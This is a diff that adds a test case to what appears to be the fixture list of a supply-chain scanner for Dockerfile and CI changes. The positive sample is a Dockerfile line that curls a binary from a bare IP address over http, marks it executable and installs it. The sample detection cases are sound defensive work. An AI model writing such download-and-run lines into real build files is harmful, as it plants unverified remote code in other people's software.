@@ -512,6 +512,13 @@ jobs:
       snapshotOf(change('Dockerfile', 'FROM node:20@sha256:' + 'a'.repeat(64) + '\nRUN npm ci\n', 'FROM node:20@sha256:' + 'a'.repeat(64) + '\nRUN curl -fsSLo install.sh https://get.example.com/install.sh && sha256sum -c sums && sh install.sh\n')),
   },
   {
+    id: 'downloaded-binary-run',
+    // test/ecosystems/shell/download-run.test.ts has the workflow, script and ADD shapes.
+    positive: () => snapshotOf(change('Dockerfile', 'FROM node:20@sha256:' + 'a'.repeat(64) + '\nRUN npm ci\n', 'FROM node:20@sha256:' + 'a'.repeat(64) + '\nRUN curl -sLo /usr/local/bin/h http://185.199.1.2/h && chmod +x /usr/local/bin/h\nRUN npm ci\n')),
+    negative: () =>
+      snapshotOf(change('Dockerfile', 'FROM node:20@sha256:' + 'a'.repeat(64) + '\nRUN npm ci\n', 'FROM node:20@sha256:' + 'a'.repeat(64) + '\nADD https://github.com/krallin/tini/releases/download/v0.19.0/tini-static /tini\nRUN chmod +x /tini && npm ci\n')),
+  },
+  {
     id: 'docker-unpinned-image',
     positive: () => snapshotOf(change('docker/app.Dockerfile', null, 'FROM python:3.12-slim\nRUN pip install .\n')),
     negative: () =>
